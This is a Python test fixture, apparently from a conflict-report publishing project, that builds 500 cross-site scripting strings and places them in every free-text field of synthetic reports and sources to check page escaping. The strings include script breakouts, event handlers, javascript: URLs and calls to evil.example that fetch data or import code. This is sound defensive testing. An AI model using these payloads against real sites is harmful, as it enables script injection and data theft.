"""Five hundred strings by which a report could try to become part of the page, and accounts that hold them in every field."""

from __future__ import annotations

from collections.abc import Sequence

from contested.model import (
    Account,
    Control,
    Evidence,
    Figure,
    Former,
    Origin,
    Place,
    Voice,
    content_id,
    pack_rows,
)
from contested.reconcile import group_events, reconcile_figures
from contested.theatres import Source
from tests.publish.poisoned import poison
from tests.publish.small import claim, link, place, report, when

# What each would do if it ran: leave a mark, ask the network, write to the page.
DEEDS = (
    "window.__pwned=1",
    "top.__pwned=2",
    "alert(3)",
    "fetch('https://evil.example/4')",
    "new Image().src='https://evil.example/5'",
    "document.body.innerHTML='<svg/onload=__pwned=6>'",
    "import('https://evil.example/7.js')",
    "eval('__pwned=8')",
    "location='javascript:__pwned=9'",
    "setTimeout('__pwned=10')",
)
# How each would get there: by markup, attributes, styles, addresses, scripts, templates, JSON, directions and lengths.
WAYS = (
    "<script>{}</script>", "</script><script>{}</script>", "<script src=data:,{}></script>", "--><script>{}</script><!--",
    "]]><script>{}</script><![CDATA[", '"><script>{}</script>', "'><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", '<img src=x onerror="{}">', "<svg onload={}>",
    '<iframe srcdoc="<script>{}</script>"></iframe>', '<iframe src="javascript:{}"></iframe>', '<a href="javascript:{}">x</a>',
    '<details open ontoggle="{}">', '<video><source onerror="{}">', '<body onload="{}">', '<object data="javascript:{}">',
    '<embed src="javascript:{}">', '<form action="javascript:{}"><button>', "<base href=https://evil.example/?{}>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">', "<link rel=stylesheet href=https://evil.example/?{}>",
    "<style>@import 'https://evil.example/?{}';</style>", "<math><mtext><mglyph><style><img src onerror={}>",
    "<template><script>{}</script></template>", "x\" onmouseover=\"{}\" x=\"", "x' onfocus='{}' autofocus='", "javascript:{}",
    "JaVaScRiPt:{}", "data:text/html,<script>{}</script>", "https://evil.example/\"onclick=\"{}", "https://evil.example/<script>{}",
    "url(javascript:{})", "}}body{{background:url('https://evil.example/?{}')}}", "expression({})", "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}", "<%= {} %>", "\"}});{}//", "');{}//", "\\\");{}//", "`-{}-`", "\u2028{}\u2029{}",
    "nul\x00{}\x00", "\u202e{}\u202c\u2066\u200f", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "＜script＞{}＜/script＞&lt;script>",
    "__proto__ constructor toString {} " + "long " * 1000,
)  # fmt: skip
STRINGS = tuple(way.format(*[deed] * 2) for way in WAYS for deed in DEEDS)
HARMLESS = tuple(f"plain words {number}" for number in range(len(STRINGS)))
# Fields that reports, sources and gazetteers fill with what they like.
FREE = frozenset({
    "text", "name", "report_name", "title", "publisher", "url", "origin", "reason", "rule", "unit", "admin1", "credits", "names",
    "chain", "reasons", "former", "aliases", "licence", "thing", "deed", "author", "site",
})  # fmt: skip


def fill_account(strings: Sequence[str]) -> Account:
    """For each string a report, its two claims, their origin, place and evidence, with the string in all their fields."""
    reports, claims, origins, controls = [], [], [], []
    for number, evil in enumerate(strings):
        where = place(f"p{number}", lat=49.0 + number / 400, lon=37.0 + number % 20 / 20, uncertainty_km=2.0)
        figure = Figure(low=3.0, high=3.0, unit="people", text="three people")
        voices = (Voice(name="x", kind="resident"), Voice(name="x", kind="channel", side="RU"))
        day = f"2025-11-{number % 28 + 1:02}"
        mine = [
            claim(event, evil, claim_id=content_id(number, event), report_id=f"r{number}", places=(where,), target="UA",
                  figures=(figure,), voices=voices, when=when(day), stance=stance, published=day)
            for event, stance in (("captured", "asserted"), ("casualties", "hedged"))
        ]  # fmt: skip
        origin = Origin(
            origin_id=f"o{number}", source=f"s{number}", name="x", kind="channel", side="RU", vouched=True,
            first=mine[0].claim_id, claims=tuple(one.claim_id for one in mine), chain=("x", "x"), reasons=("x",),
            links=(link(mine[1].claim_id, "again", mine[0].claim_id, "x"),),
        )  # fmt: skip
        told = Evidence(
            claim_id=mine[0].claim_id, origin_id=f"o{number}", origin="x", kind="channel", side="RU", published=day, on=day,
            says="RU", weight=1.0, reason="x", against_interest=False, reports=(f"r{number}",),
        )  # fmt: skip
        here = Place(
            place_id=f"composed:p{number}", name="x", kind="settlement", lat=where.lat or 0, lon=where.lon or 0, country="UA",
            admin1="x", population=900, names=("x", "y"), former=(Former("x", 1990),),
        )  # fmt: skip
        rows = pack_rows([(0.2, 0.2, 0.6)] * 12)
        control = Control(
            place=here, states=("UA", "contested", "RU"), first="2025-12-01", chances=rows, evidence=(told,)
        )
        written = report(
            evil, f"r{number}", title="x", url="x", publisher="x", credits=("x", "x"), published=day, author="x", site="x",
            found_in={"author": "meta author", "site": "meta og:site_name"},
        )  # fmt: skip
        reports.append(poison(written, evil, FREE))
        claims += [poison(one, evil, FREE) for one in mine]
        origins.append(poison(origin, evil, FREE))
        controls.append(poison(control, evil, FREE))
    events = group_events(claims, origins)
    figures = reconcile_figures(claims, origins, {one.report_id: "en" for one in reports})
    return Account(
        reports=tuple(reports), claims=tuple(claims), mentions=(), origins=tuple(origins), controls=tuple(controls),
        events=events, figures=figures,
    )  # fmt: skip


def fill_sources(strings: Sequence[str]) -> tuple[Source, ...]:
    return tuple(
        poison(
            Source(
                source_id=f"s{number}",
                name="x",
                kind="channel",
                side="RU",
                aliases=("y",),
                url="x",
                licence="x",
            ),
            evil,
            FREE,
        )
        for number, evil in enumerate(strings)
    )
